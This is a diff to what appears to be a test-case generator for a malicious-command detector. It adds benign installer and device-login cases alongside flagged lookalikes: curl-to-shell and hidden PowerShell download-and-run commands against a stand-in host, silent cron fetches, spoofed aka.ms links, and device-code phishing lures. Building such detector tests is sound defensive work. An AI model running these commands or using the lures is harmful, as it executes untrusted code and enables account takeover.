@@ -79,6 +79,20 @@ TYPED = {
         "code -n D:\\data\\reports",
         "code-insiders -r C:\\src\\lib",
     ],
+    "runbox-typed-editor-more": [
+        "notepad++ C:\\logs\\app.log",
+        "notepad++ %USERPROFILE%\\.gitconfig",
+        'notepad++ "C:\\Users\\me\\Documents\\to do.txt"',
+        "notepad++.exe D:\\notes\\meeting.md",
+        "code -n",
+        "code --new-window",
+        "code-insiders -r",
+        "firefox -P work",
+        'firefox -P "Dev Profile" -private-window',
+        "firefox -P -private-window",
+        "explorer /n,C:\\Users\\Public",
+        "explorer /n,%USERPROFILE%\\Documents",
+    ],
     "runbox-typed-explorer-folder": [
         "explorer.exe /e,C:\\Users\\Public\\Documents",
         "explorer /e,D:\\Photos",
@@ -141,6 +155,13 @@ TYPED_LOOKALIKES = [
     "code --new-window --reuse-window C:\\dev\\site",
     "code --new-window https://repo.corp-verify.test/site",
     "explorer /e,C:\\Users\\Public\\invoice.lnk",
+    "notepad++ \\\\files.corp-verify.test\\x\\a.txt",
+    "notepad++ -pluginsDir C:\\Users\\Public\\p",
+    "firefox -P ..\\..\\Users\\Public\\p",
+    "firefox -P work -P",
+    "code -n -r",
+    "explorer /n,C:\\Users\\Public\\x.hta",
+    "notepad++ https://files.corp-verify.test/a.txt",
     "explorer C:\\Users\\Public\\fix.hta",
     "explorer \\\\files.corp-verify.test\\share",
     "explorer /root,C:\\Users\\Public",
@@ -360,10 +381,203 @@ def security_texts(book: Book) -> None:
         book.add("prose-quoted-pipe-lookalike", text, expect, "any", target, None)
 
 
+# -- official installers beside what runs nothing, run quietly, or from Visual Studio's links ----
+
+README = "https://github.com/quillmere/shop/blob/main/docs/install.md"
+WIKI_OPS = "https://wiki.ops-team.example/build-hosts/tooling"
+DOCKERFILE = "https://github.com/quillmere/shop/blob/main/Dockerfile.win"
+OTHER_HOST = "dl.northwind-tools.example"
+
+# an official installer, and an address nothing downloads from: this computer's own (a dev
+# server to open afterwards) or one only a sentence names
+BESIDE_UNFETCHED = [
+    "## Install\n\n```sh\ncurl -fsSL https://get.docker.com | sh\ndocker compose up -d\n```\n\n"
+    "Then open http://localhost:8000.",
+    "curl -fsSL https://get.docker.com | sh\nThen open http://127.0.0.1:3000 in your browser.",
+    "curl -LsSf https://astral.sh/uv/install.sh | sh\nuv run app.py\n"
+    "The app listens on http://localhost:5000/docs",
+    "See https://docs.docker.com/engine/install/ for other ways.\n"
+    "curl -fsSL https://get.docker.com | sh",
+    "curl -fsSL https://bun.sh/install | bash\nbun dev\nVisit http://localhost:3000 to see it.",
+    "Docs: https://docs.astral.sh/uv/getting-started/installation/ explain the options.\n"
+    "curl -LsSf https://astral.sh/uv/install.sh | sh",
+    "curl -fsSL https://deno.land/install.sh | sh\ndeno task start\n"
+    "Open http://[::1]:8000/ afterwards.",
+    "Install rustup (more at https://rust-lang.org/tools/install for Windows).\n"
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+    "curl -fsSL https://ollama.com/install.sh | sh\nollama serve\n"
+    "The API answers on http://localhost:11434/api/tags",
+    "irm https://get.scoop.sh | iex\nscoop install nodejs\nThen browse to http://localhost:4200.",
+    "Read the Nix manual (https://nix.dev/manual/nix/latest/installation/) first.\n"
+    "sh <(curl -L https://nixos.org/nix/install) --daemon",
+]
+# ...the other address fetched (a second download, a sentence that is a command), or a
+# stranger's script run quietly: each keeps its weight
+BESIDE_UNFETCHED_LOOKALIKES = [
+    f"See https://{OTHER_HOST}/x for details.\ncurl -fsSL https://get.docker.com | sh\n"
+    f"curl -s {OTHER_HOST}/y | sh",
+    f"curl -fsSL https://get.docker.com | sh\nSee https://{OTHER_HOST}/x | sh",
+    f"curl -fsSL https://get.docker.com | sh\nThen wget https://{OTHER_HOST}/x -O- | sh",
+    f"curl -fsSL https://get.docker.com | sh\nSee: curl -s https://{OTHER_HOST}/y | sh",
+    f"curl -fsSL https://get.docker.com | sh\ncurl -s https://{OTHER_HOST}/y | sh",
+    f"Open http://localhost:8000 after this:\ncurl -fsSL https://{OTHER_HOST}/i.sh | sh",
+    f"curl -fsSL https://get.docker.com | sh && curl -s https://{OTHER_HOST}/p | bash",
+    f"Docs: https://{OTHER_HOST}/docs\ncurl -fsSL https://{OTHER_HOST}/install.sh | bash",
+    f"curl -fsSL https://{OTHER_HOST}/x.sh | sh\nThen open http://localhost:8000.",
+    f"curl -fsSL https://astral.sh/uv/install.sh | sh; bash <(curl -s https://{OTHER_HOST}/z)",
+]
+
+# an official installer run quietly: a cron job, a provisioning step, a CI image
+QUIET_INSTALLERS = [
+    "# weekly refresh of the uv binary on build hosts\n"
+    "0 6 * * 1 curl -LsSf https://astral.sh/uv/install.sh | sh >/dev/null 2>&1",
+    "curl -LsSf https://astral.sh/uv/install.sh | sh >/dev/null 2>&1",
+    "curl -fsSL https://get.docker.com | sh > /dev/null 2>&1",
+    "curl -fsSL https://bun.sh/install | bash &> /dev/null",
+    "@reboot curl -fsSL https://get.docker.com | sudo sh >/dev/null 2>&1",
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y >/dev/null 2>&1",
+    "curl -fsSL https://ollama.com/install.sh | sh 2>&1 >/dev/null",
+    "30 2 * * * curl -fsSL https://get.pnpm.io/install.sh | sh - > /dev/null 2>&1",
+    "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash >/dev/null 2>&1",
+    "irm https://get.scoop.sh | iex | Out-Null",
+    "curl -fsSL https://starship.rs/install.sh | sh -s -- -y > /dev/null 2>&1",
+]
+QUIET_LOOKALIKES = [
+    f"curl -fsSL https://{OTHER_HOST}/y | sh >/dev/null 2>&1",
+    f"0 6 * * 1 curl -fsSL https://{OTHER_HOST}/u.sh | sh >/dev/null 2>&1",
+    f"curl -LsSf https://astral.sh/uv/install.sh | sh >/dev/null 2>&1; "
+    f"curl -s https://{OTHER_HOST}/y | sh >/dev/null 2>&1",
+    f"curl -fsSL https://get.docker.com.{OTHER_HOST}/ | sh >/dev/null 2>&1",
+    f"curl -fsSL https://sh.rustup.rs@{OTHER_HOST}/r | sh >/dev/null 2>&1",
+    f"irm https://{OTHER_HOST}/s.ps1 | iex | Out-Null",
+    "curl -fsSL https://get.docker.com | sh >/dev/null 2>&1; clear",
+    "curl -fsSL https://raw.githubusercontent.com/quillmere/tools/main/i.sh | sh >/dev/null 2>&1",
+    f"@reboot curl -fsSL http://{OTHER_HOST}/b | sh >/dev/null 2>&1",
+    f"curl -fsSL https://{OTHER_HOST}/y | nohup sh >/dev/null 2>&1 &",
+]
+
+# Visual Studio's own short links for the Visual C++ Redistributable and the Build Tools
+VS_LINKS = [
+    "FROM mcr.microsoft.com/windows/servercore:ltsc2022\n"
+    'SHELL ["powershell", "-Command"]\n'
+    "RUN Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile "
+    "vc_redist.x64.exe; Start-Process .\\vc_redist.x64.exe -ArgumentList '/install','/quiet' -Wait",
+    "Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile "
+    "$env:TEMP\\vc_redist.x64.exe\nStart-Process $env:TEMP\\vc_redist.x64.exe -ArgumentList "
+    "'/install','/quiet','/norestart' -Wait",
+    "iwr https://aka.ms/vs/17/release/vc_redist.x86.exe -OutFile vc_redist.x86.exe\n"
+    ".\\vc_redist.x86.exe /install /passive /norestart",
+    "curl -L -o vs_buildtools.exe https://aka.ms/vs/17/release/vs_buildtools.exe\n"
+    "vs_buildtools.exe --quiet --wait --norestart --add Microsoft.VisualStudio.Workload.VCTools",
+    "Invoke-WebRequest https://aka.ms/vs/17/release/vs_buildtools.exe -OutFile vs_buildtools.exe; "
+    "Start-Process -Wait .\\vs_buildtools.exe -ArgumentList '--quiet','--norestart'",
+    "RUN curl -fSLo vs_BuildTools.exe https://aka.ms/vs/17/release/vs_buildtools.exe "
+    "&& start /w vs_BuildTools.exe --quiet --wait --norestart --nocache",
+    "Invoke-WebRequest -Uri https://aka.ms/vs/16/release/vc_redist.x64.exe -OutFile "
+    "C:\\Temp\\vc_redist.x64.exe; C:\\Temp\\vc_redist.x64.exe /quiet /norestart",
+    "$url = 'https://aka.ms/vs/17/release/vc_redist.arm64.exe'\n"
+    "Invoke-WebRequest $url -OutFile vc_redist.arm64.exe\nStart-Process .\\vc_redist.arm64.exe "
+    "'/install /quiet' -Wait",
+    "bitsadmin /transfer vcredist https://aka.ms/vs/17/release/vc_redist.x64.exe "
+    "%TEMP%\\vc_redist.x64.exe && %TEMP%\\vc_redist.x64.exe /quiet /norestart",
+    "Start-BitsTransfer https://aka.ms/vs/17/release/vc_redist.x64.exe "
+    "$env:TEMP\\vc.exe; & $env:TEMP\\vc.exe /install /quiet",
+]
+VS_LINK_LOOKALIKES = [
+    ("Invoke-WebRequest -Uri https://aka.ms/vsbuildtools -OutFile $env:TEMP\\x.exe\n"
+     "Start-Process $env:TEMP\\x.exe", TERMINAL, None, "flagged"),
+    ("Invoke-WebRequest -Uri https://aka.ms/vs.example.test/x.exe -OutFile $env:TEMP\\x.exe\n"
+     "Start-Process $env:TEMP\\x.exe", TERMINAL, None, "flagged"),
+    ("Invoke-WebRequest -Uri https://aka.ms.example.test/vs/17/release/vc_redist.x64.exe "
+     "-OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe", TERMINAL, None, "flagged"),
+    ('powershell -w h -c "iwr https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile '
+     '$env:TEMP\\v.exe; start $env:TEMP\\v.exe"', RUN, LURE_PAGE, "malicious"),
+    ("Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile "
+     "$env:TEMP\\v.exe; Start-Process $env:TEMP\\v.exe; iwr https://dl.northwind-tools.example/a.exe "
+     "-OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe", TERMINAL, LURE_PAGE, "malicious"),
+    ("Invoke-WebRequest -Uri https://vs.aka.ms.example.test/17/release/vc_redist.x64.exe "
+     "-OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe", TERMINAL, None, "flagged"),
+    ("iwr https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile $env:TEMP\\v.exe; "
+     "start $env:TEMP\\v.exe", RUN, LURE_PAGE, "malicious"),
+    ("Invoke-WebRequest https://aka.ms/vs/../x/helper.exe -OutFile $env:TEMP\\h.exe; "
+     "Start-Process $env:TEMP\\h.exe", TERMINAL, None, "flagged"),
+    ("Invoke-WebRequest https://aka.ms/vsfix/helper.exe -OutFile $env:TEMP\\h.exe; "
+     "Start-Process $env:TEMP\\h.exe", TERMINAL, None, "flagged"),
+    ("Invoke-WebRequest http://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile "
+     "$env:TEMP\\h.exe; Start-Process $env:TEMP\\h.exe", TERMINAL, None, "flagged"),
+]  # fmt: skip
+
+
+def installers(book: Book) -> None:
+    for i, text in enumerate(BESIDE_UNFETCHED):
+        book.add("installer-beside-unfetched-address", text, "not_flagged", "any",
+                 (UNKNOWN, TERMINAL)[i % 2], (README, None)[i % 2])  # fmt: skip
+    for text in BESIDE_UNFETCHED_LOOKALIKES:
+        book.add("installer-beside-unfetched-address-lookalike", text, "flagged", "any", TERMINAL)
+    for i, text in enumerate(QUIET_INSTALLERS):
+        book.add("installer-output-discarded", text, "not_flagged", "any",
+                 (UNKNOWN, TERMINAL)[i % 2], (WIKI_OPS, None)[i % 2])  # fmt: skip
+    for text in QUIET_LOOKALIKES:
+        book.add("installer-output-discarded-lookalike", text, "flagged", "any", TERMINAL)
+    for i, text in enumerate(VS_LINKS):
+        book.add("installer-vs-redist-link", text, "not_flagged", "windows",
+                 (UNKNOWN, TERMINAL)[i % 2], (DOCKERFILE, None)[i % 2])  # fmt: skip
+    for text, target, page, expect in VS_LINK_LOOKALIKES:
+        book.add("installer-vs-redist-link-lookalike", text, expect, "windows", target, page)
+
+
+# -- a CLI's own device sign-in output, copied with the command that printed it ------------------
+
+TUNNELS_DOCS = "https://code.visualstudio.com/docs/remote/tunnels"
+GRANT = "To grant access to the server, please log into"
+CLI_OUTPUTS = [
+    f"code tunnel\n# {GRANT} https://github.com/login/device and use code 3F2A-11BC",
+    f"PS C:\\dev> code tunnel\n{GRANT} https://github.com/login/device and use code 9C1D-7E42",
+    f"code-insiders tunnel --accept-server-license-terms\n* {GRANT} "
+    "https://github.com/login/device and use code A1B2-C3D4",
+    f"$ code tunnel --name lab-box\n{GRANT} https://github.com/login/device and use code 7D3E-A9F0",
+    f"code.exe tunnel\n* {GRANT} https://github.com/login/device and use code 4C2B-88E1",
+    f"> code tunnel\n{GRANT} https://microsoft.com/devicelogin and use code F7K2M9QX",
+    f"user@build:~$ code tunnel\n{GRANT} https://github.com/login/device and use code 1A2B-3C4D",
+    f"code tunnel --accept-server-license-terms --name ci-runner\n{GRANT} "
+    "https://github.com/login/device and use code 5E6F-7A8B",
+    f"C:\\tools> code tunnel\n# {GRANT} https://github.com/login/device and use code B7C8-D9E0",
+    f"code-insiders tunnel\n{GRANT} https://github.com/login/device and use code 0F1E-2D3C",
+]
+CLI_OUTPUT_LOOKALIKES = [
+    "Please log into https://github.com/login/device and use code 3F2A-11BC to join the review.",
+    "Join our code tunnel: log into https://github.com/login/device and use code 3F2A-11BC",
+    "To review the build, open the code tunnel. Please log into https://github.com/login/device "
+    "and use code 3F2A-11BC",
+    "code tunnel\nTo join the meeting, log into https://github.com/login/device and use code "
+    "3F2A-11BC",
+    "code tunnel\nUrgent: your account will be suspended. Log into "
+    "https://github.com/login/device and use code 3F2A-11BC now",
+    "Your code tunnel session expired. Log into https://github.com/login/device and use code "
+    "3F2A-11BC to restore access.",
+    "Meeting access: go to https://microsoft.com/devicelogin and enter code F7K2M9QX",
+    "IT support: run code tunnel, then log into https://github.com/login/device and use code "
+    "3F2A-11BC so we can fix your laptop.",
+    f"Invoice #5521 attached.\n{GRANT} https://github.com/login/device and use code 3F2A-11BC",
+    f"{GRANT} https://github.com/login/device and use code 3F2A-11BC",
+]
+
+
+def device_codes(book: Book) -> None:
+    for i, text in enumerate(CLI_OUTPUTS):
+        book.add("device-code-cli-output", text, "not_flagged", "any", UNKNOWN,
+                 (TUNNELS_DOCS, None)[i % 2])  # fmt: skip
+    for i, text in enumerate(CLI_OUTPUT_LOOKALIKES):
+        book.add("device-code-cli-output-lookalike", text, "flagged", "any", UNKNOWN,
+                 (None, "https://chat.team-space.example/c/42")[i % 2])  # fmt: skip
+
+
 def build() -> list[dict[str, str]]:
     book = Book("b16b")
     run_box(book)
     security_texts(book)
+    installers(book)
+    device_codes(book)
     return book.cases
 
 
